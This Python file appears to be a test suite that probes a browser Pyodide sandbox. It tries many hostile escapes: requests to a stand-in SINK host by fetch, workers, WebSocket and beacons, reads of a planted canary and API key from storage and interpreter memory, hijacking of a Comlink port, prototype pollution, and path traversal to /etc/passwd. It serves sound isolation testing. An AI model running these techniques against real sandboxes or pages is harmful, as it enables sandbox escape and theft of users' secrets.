"""Ways out of the sandbox, tried by hostile Python. Each returns what it reached, or raises when it was refused.

`SINK` is the address of another server (host:port) that counts every request it sees, `MODEL` that of a model server. `CANARY` is a secret that the
page keeps in localStorage, sessionStorage, IndexedDB, a cache, a cookie and a global variable.
"""

import asyncio
import collections
import contextlib
import ctypes  # noqa: F401 - some attempts need the module loaded
import gc
import json
import os
import pathlib
import re

import js
from pyodide.ffi import create_proxy, to_js

ATTEMPTS = {}


class Refused(Exception):
    """The way is closed."""


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def to_object(value):
    return to_js(value, dict_converter=js.Object.fromEntries)


async def event_of(target, good, bad="error", seconds=1.5):
    """Waits for one of two events of a JavaScript object."""
    loop = asyncio.get_running_loop()
    future = loop.create_future()

    def on_good(event):
        if not future.done():
            future.set_result(event)

    def on_bad(event):
        if not future.done():
            future.set_exception(Refused(f"{bad} event"))

    proxies = create_proxy(on_good), create_proxy(on_bad)
    target.addEventListener(good, proxies[0])
    target.addEventListener(bad, proxies[1])
    return await asyncio.wait_for(future, seconds)


def blob_url(source, kind="text/javascript"):
    return js.URL.createObjectURL(js.Blob.new(to_js([source]), to_object({"type": kind})))


async def from_worker(url):
    """Starts another worker, whose globals nobody has replaced, and gives its first message."""
    worker = js.Worker.new(url)
    try:
        message = (await event_of(worker, "message")).data
    finally:
        worker.terminate()
    if str(message).startswith("refused"):
        raise Refused(str(message))
    return str(message)


def reporting(expression):
    """A worker's script that says what an expression came to."""
    return f"(async () => {expression})().then(v => postMessage('reached ' + v), e => postMessage('refused ' + e))"


# --- The network -------------------------------------------------------------------------------------------------------


@attempt
async def native_fetch():
    return (await js.WorkerGlobalScope.prototype.fetch.call(js.self, f"http://{SINK}/native_fetch")).status


@attempt
async def fetch_of_a_new_worker():
    return await from_worker(blob_url(reporting(f"fetch('http://{SINK}/new_worker')")))


@attempt
async def fetch_without_cors_of_a_new_worker():
    return await from_worker(blob_url(reporting(f"fetch('http://{SINK}/no_cors', {{mode: 'no-cors'}})")))


@attempt
async def fetch_of_a_data_worker():
    return await from_worker("data:text/javascript," + js.encodeURIComponent(reporting(f"fetch('http://{SINK}/data')")))


@attempt
async def fetch_of_a_worker_in_a_worker():
    inner = reporting(f"fetch('http://{SINK}/nested')")
    outer = (
        f"const w = new Worker(URL.createObjectURL(new Blob([{json.dumps(inner)}])));"
        "w.onmessage = e => postMessage(e.data); w.onerror = e => postMessage('refused nested worker')"
    )
    return await from_worker(blob_url(outer))


@attempt
async def module_worker_with_import():
    worker = js.Worker.new(blob_url(f"import 'http://{SINK}/module.js'"), to_object({"type": "module"}))
    await event_of(worker, "message")
    return "module"


@attempt
async def worker_of_another_origin():
    await event_of(js.Worker.new(f"http://{SINK}/worker.js"), "message")
    return "worker"


@attempt
async def xml_http_request():
    request = js.XMLHttpRequest.new()
    request.open("GET", f"http://{SINK}/xhr")
    request.send()
    await event_of(request, "load")
    return request.status


@attempt
async def synchronous_xml_http_request():
    request = js.XMLHttpRequest.new()
    request.open("GET", f"http://{SINK}/xhr_sync", False)
    request.send()
    return request.status


@attempt
async def websocket():
    await event_of(js.WebSocket.new(f"ws://{SINK}/socket"), "open")
    return "open"


@attempt
async def event_source():
    await event_of(js.EventSource.new(f"http://{SINK}/events"), "open")
    return "open"


@attempt
async def web_transport():
    transport = js.WebTransport.new(f"https://{SINK}/transport")
    await asyncio.wait_for(transport.ready, 1.5)
    return "ready"


@attempt
async def import_scripts():
    js.importScripts(f"http://{SINK}/script.js")
    return "loaded"


@attempt
async def dynamic_import():
    return await from_worker(blob_url(reporting(f"import('http://{SINK}/import.js')")))


@attempt
async def image_in_an_offscreen_canvas():
    return await from_worker(
        blob_url(reporting(f"createImageBitmap(await (await fetch('http://{SINK}/image.png')).blob())"))
    )


@attempt
async def font_face():
    face = js.FontFace.new("x", f"url(http://{SINK}/font.woff2)")
    await asyncio.wait_for(face.load(), 1.5)
    return "font"


@attempt
async def send_beacon():
    return js.navigator.sendBeacon(f"http://{SINK}/beacon", "x")


@attempt
async def peer_connection():
    return js.RTCPeerConnection.new()


@attempt
async def broker_without_a_rule():
    from urllib.request import urlopen

    return urlopen(f"http://{SINK}/broker").status


@attempt
async def broker_to_the_desk_itself():
    from pyodide.http import pyfetch

    return (await pyfetch(f"{DESK}index.html")).status


@attempt
async def raw_socket():
    import socket

    host, port = SINK.split(":")
    return socket.create_connection((host, int(port)), timeout=1)


# --- Storage and keys --------------------------------------------------------------------------------------------------


@attempt
async def local_storage():
    return js.localStorage.getItem("canary")


@attempt
async def indexed_db():
    request = js.indexedDB.open("canary")
    await event_of(request, "success")
    return list(request.result.objectStoreNames)


@attempt
async def indexed_db_of_a_new_worker():
    return await from_worker(
        blob_url(
            reporting(
                "new Promise((r, j) => { const o = indexedDB.open('canary'); o.onsuccess = r; o.onerror = () => j(o.error) })"
            )
        )
    )


@attempt
async def cache_storage():
    return await js.caches.match("/canary")


@attempt
async def cookies():
    return (await js.cookieStore.get("canary")).value


@attempt
async def private_files():
    return await js.navigator.storage.getDirectory()


@attempt
async def web_locks():
    return await js.navigator.locks.query()


@attempt
async def broadcast_channel():
    """The page answers on this channel with the canary; another origin is another channel."""
    channel = js.BroadcastChannel.new("canary")
    channel.postMessage("give")
    return (await event_of(channel, "message", "messageerror")).data


@attempt
async def shared_worker():
    return js.SharedWorker.new(blob_url("onconnect = () => {}"))


@attempt
async def service_worker():
    return await js.navigator.serviceWorker.register("/sw.js")


# --- The key of a provider, set in the page while all of this is tried -------------------------------------------------

KEY = re.compile(r"sk-kept" + r"-[0-9a-f]{16}-end")


def found_in(text):
    """The key in a text, or a refusal."""
    found = KEY.search(str(text))
    if found is None:
        raise Refused("no key")
    return found[0]


@attempt
async def key_in_the_vault():
    request = js.indexedDB.open("carrel-keys")
    await event_of(request, "success")
    return list(request.result.objectStoreNames)


@attempt
async def key_in_session_storage():
    return found_in(js.JSON.stringify(js.sessionStorage))


@attempt
async def key_in_the_names_of_databases():
    return js.JSON.stringify(await js.indexedDB.databases())


@attempt
async def key_in_everything_that_is_reachable():
    """Walks from the global object over every property, prototypes included."""
    seen, waiting = 0, collections.deque([("self", js.self, 0)])
    Reflect, String = js.Reflect, js.String
    identity = js.Map.new()
    while waiting and seen < 6_000:
        path, value, depth = waiting.popleft()
        kind = type(value).__name__
        if kind == "str":
            if KEY.search(value):
                return path
            continue
        if kind not in ("JsProxy", "JsCallable", "JsMap", "JsArray", "JsBuffer") and not hasattr(value, "typeof"):
            continue
        if identity.has(value) or depth > 5:
            continue
        identity.set(value, 1)
        seen += 1
        try:
            names = list(Reflect.ownKeys(value))[:200]
        except Exception:
            continue
        for name in names:
            try:
                waiting.append((f"{path}.{String(name)}", Reflect.get(value, name), depth + 1))
            except Exception:
                continue
    raise Refused("no key")


@attempt
async def key_in_python_objects():
    return found_in([value for value in gc.get_objects() if isinstance(value, str | bytes | dict)])


@attempt
async def key_in_the_memory_of_the_interpreter():
    """All bytes of the WebAssembly memory, read as a strange pointer would."""
    import pyodide_js

    memory = pyodide_js._module.HEAPU8
    pattern = re.compile(rb"sk-kept" + rb"-[0-9a-f]{16}-end")
    step = 16 * 1024 * 1024
    for start in range(0, memory.length, step):
        found = pattern.search(memory.subarray(start, start + step + 64).to_bytes())
        if found:
            return found[0]
    raise Refused("no key")


@attempt
async def key_in_what_was_loaded():
    return found_in(js.JSON.stringify(js.performance.getEntries()))


@attempt
async def key_in_the_file_store():
    texts = [path.read_text(errors="replace") for path in pathlib.Path("/mnt/data").rglob("*") if path.is_file()]
    return found_in([text for text in texts if "def found_in" not in text])


@attempt
async def key_from_channels_of_every_name():
    """The page's own tabs speak on channels; another origin hears none of them."""
    names = ["carrel", "carrel-keys", "carrel-files", "carrel-sessions", "carrel.ask", "keys"]
    heard = []
    for name in names:
        channel = js.BroadcastChannel.new(name)
        channel.onmessage = create_proxy(lambda event: heard.append(js.JSON.stringify(event.data)))
        channel.postMessage("wish")
    await asyncio.sleep(0.5)
    return found_in(heard)


@attempt
async def key_from_the_opener():
    return js.opener.carrel


@attempt
async def key_by_asking_the_page():
    """Methods that a door with the keys would have."""
    for place, name in enumerate(("get", "unlock")):
        with contextlib.suppress(Refused, TimeoutError):
            return found_in(await checked(f"escape-key-{place}", name, ["compatible"]))
    raise Refused("no such method")


@attempt
async def request_of_a_model_with_the_key():
    """The page would add the key to a request of its own; one of Python's goes without it, if it goes at all."""
    return await fetch_by_broker("escape-key-model", f"{MODEL}/models", "GET", [("authorization", "Bearer ")])


# --- The page ----------------------------------------------------------------------------------------------------------


@attempt
async def parent_window():
    return js.parent.document.title


@attempt
async def top_window():
    return js.top.location.href


@attempt
async def window_document():
    return js.document.cookie


@attempt
async def evaluate_text():
    return js.eval("1 + 1")


@attempt
async def function_constructor():
    return js.Function.new("return 1")()


@attempt
async def pyodide_run_js():
    from pyodide.code import run_js

    return run_js("1 + 1")


@attempt
async def open_a_window():
    return js.open(f"http://{SINK}/window")


async def stolen_port():
    """The port to the page, taken from Comlink by replacing what it posts with."""
    caught = []
    prototype = js.MessagePort.prototype
    original = prototype.postMessage

    def post(this, *arguments):
        caught.append(this)
        return original.apply(this, to_js(list(arguments), depth=1))

    replacement = create_proxy(post).captureThis()
    prototype.postMessage = replacement
    try:
        print("", end=" ", flush=True)
        await asyncio.sleep(0.2)
    finally:
        prototype.postMessage = original
    if not caught:
        raise Refused("no port was used")
    return caught[0]


async def call_page(message):
    """Sends a Comlink message of our own to the page and waits for its answer."""
    port = await stolen_port()
    loop = asyncio.get_running_loop()
    answer = loop.create_future()

    def on_message(event):
        if event.data and event.data.id == message["id"] and not answer.done():
            answer.set_result(event.data)

    listener = create_proxy(on_message)
    port.addEventListener("message", listener)
    port.postMessage(to_object(message))
    try:
        reply = await asyncio.wait_for(answer, 1)
    finally:
        port.removeEventListener("message", listener)
    return js.JSON.stringify(reply)


@attempt
async def construct_through_comlink():
    code = "window.escaped = true; return 1"
    return await call_page(
        {
            "id": "escape-1",
            "type": "CONSTRUCT",
            "path": ["commit", "constructor"],
            "argumentList": [{"type": "RAW", "value": code}],
        }
    )


@attempt
async def prototype_pollution_through_comlink():
    return await call_page(
        {
            "id": "escape-2",
            "type": "SET",
            "path": ["__proto__", "escaped"],
            "value": {"type": "RAW", "value": True},
        }
    )


@attempt
async def walk_objects_through_comlink():
    return await call_page({"id": "escape-3", "type": "GET", "path": ["commit", "constructor", "name"]})


@attempt
async def new_port_through_comlink():
    return await call_page({"id": "escape-4", "type": "ENDPOINT"})


@attempt
async def callback_through_comlink():
    """A handler makes the page hold an object of the sandbox's."""
    return await call_page(
        {
            "id": "escape-5",
            "type": "APPLY",
            "path": ["wheel"],
            "argumentList": [{"type": "HANDLER", "name": "throw", "value": {"isError": False, "value": 1}}],
        }
    )


@attempt
async def method_of_every_object_through_comlink():
    return await call_page({"id": "escape-9", "type": "APPLY", "path": ["constructor"], "argumentList": []})


@attempt
async def path_of_two_names_through_comlink():
    return await call_page({"id": "escape-10", "type": "APPLY", "path": ["commit", "call"], "argumentList": []})


@attempt
async def release_of_the_door():
    return await call_page({"id": "escape-11", "type": "RELEASE"})


@attempt
async def control_of_the_frame():
    """The frame listens to one message of the worker, long ago; a second changes nothing."""
    js.self.postMessage(to_object({"scripts": ["escaped = 1"], "kind": "blob", "port": None, "signal": None}))
    await asyncio.sleep(0.3)
    raise Refused("nobody answers")


async def fetch_by_broker(identity, url, method="GET", headers=()):
    request = {"method": method, "url": url, "headers": [list(pair) for pair in headers], "body": None}
    return await checked(identity, "fetch", [request])


@attempt
async def broker_to_a_file():
    return await fetch_by_broker("escape-12", "file:///etc/passwd")


@attempt
async def broker_to_a_blob():
    return await fetch_by_broker("escape-13", blob_url("x"))


@attempt
async def broker_to_data():
    return await fetch_by_broker("escape-14", "data:text/plain,x")


@attempt
async def broker_to_a_relative_address():
    return await fetch_by_broker("escape-15", "/index.html")


@attempt
async def broker_with_another_name_for_the_desk():
    return await fetch_by_broker("escape-16", DESK.replace("//", "//user@"), "TRACE", [("Cookie", "x"), ("Host", SINK)])


@attempt
async def file_with_a_nul_in_its_name():
    change = {"kind": "write", "path": "/mnt/data/a\0b", "data": js.Blob.new(to_js(["x"]))}
    return await checked("escape-17", "commit", [None, [change]])


@attempt
async def file_with_an_endless_name():
    change = {"kind": "write", "path": "/mnt/data/" + "a" * 100_000, "data": js.Blob.new(to_js(["x"]))}
    return await checked("escape-18", "commit", [None, [change]])


@attempt
async def change_that_is_no_change():
    return await checked("escape-19", "commit", [None, [{"kind": "write", "path": {"toString": 1}, "data": "x"}]])


@attempt
async def too_many_changes():
    return await checked("escape-20", "commit", [None, js.Array.new(200_000)])


@attempt
async def input_of_another_run():
    """A question in the name of a run that is not there gets no answer, and nobody is asked."""
    reply = await call_page(
        {
            "id": "escape-21",
            "type": "APPLY",
            "path": ["input"],
            "argumentList": [{"type": "RAW", "value": value} for value in ["another", "Password?", True]],
        }
    )
    if '"value":null' in reply:
        raise Refused(reply)
    return reply


@attempt
async def events_of_hostile_shapes():
    """Nothing of this may show, throw or stay: a broken event is dropped."""
    hostile = [
        None,
        7,
        {"kind": "__proto__"},
        {"kind": "display", "data": None},
        {"kind": "display", "data": {"text/html": {"toString": 1}}, "displayId": None, "update": False},
        {"kind": "result", "count": "1", "data": {}},
        {"kind": "input", "prompt": "Password?", "password": True},
        {"kind": "status", "state": "stopping"},
        {"kind": "progress", "progress": {"label": "x" * 10_000, "loaded": 1, "total": 1, "unit": "bytes"}},
    ]
    port = await stolen_port()
    for run in ("another", "__proto__", None, 7):
        arguments = [{"type": "RAW", "value": run}, {"type": "RAW", "value": hostile}]
        message = {"id": f"escape-22-{run}", "type": "APPLY", "path": ["events"], "argumentList": arguments}
        port.postMessage(to_object(message))
    raise Refused("dropped")


@attempt
async def flood_of_the_broker():
    """Three thousand calls and one huge message; the desk is asked afterwards whether it still works."""
    port = await stolen_port()
    message = {"id": "escape-23", "type": "APPLY", "path": ["progress"], "argumentList": [{"type": "RAW", "value": None}]}
    call = to_object(message)
    for _ in range(3_000):
        port.postMessage(call)
    port.postMessage("x" * 5_000_000)
    raise Refused("swallowed")


@attempt
async def file_outside_the_store():
    """Asks the broker to write where it must not."""
    return await checked(
        "escape-6",
        "commit",
        [None, [{"kind": "write", "path": "/mnt/data/../../etc/passwd", "data": js.Blob.new(to_js(["x"]))}]],
    )


@attempt
async def wheel_that_is_no_wheel():
    return await checked("escape-7", "wheel", ["../index.html"])


@attempt
async def keep_in_the_place_of_numpy():
    entry = {
        "name": "numpy",
        "version": "99.0",
        "file_name": "numpy-99.0-py3-none-any.whl",
        "install_dir": "site",
        "sha256": "0" * 64,
        "package_type": "package",
        "imports": ["numpy"],
        "depends": [],
    }
    return await checked("escape-8", "keep", [entry, js.ArrayBuffer.new(8)])


async def checked(identity, method, values):
    """Calls a method of the broker as anybody in the sandbox may; a refusal is its answer."""
    reply = await call_page(
        {
            "id": identity,
            "type": "APPLY",
            "path": [method],
            "argumentList": [{"type": "RAW", "value": value} for value in values],
        }
    )
    if '"ok":false' in reply or '"name":"throw"' in reply:
        raise Refused(reply[:200])
    return reply


@attempt
async def host_environment():
    """Secrets in the environment or in files of the interpreter."""
    found = [name for name, value in os.environ.items() if CANARY in value]
    if not found:
        raise Refused("nothing in the environment")
    return found


async def try_one(name):
    """Runs one attempt; returns {"refused": bool, "detail": str} as JSON."""
    try:
        reached = await asyncio.wait_for(ATTEMPTS[name](), 3)
    except BaseException as error:  # noqa: BLE001 - any refusal counts
        return json.dumps({"refused": True, "detail": f"{type(error).__name__}: {error}"[:200]})
    empty = reached is None or str(reached) in ("undefined", "null", "None", "False")
    return json.dumps({"refused": empty, "detail": f"reached {reached!r}"[:200]})
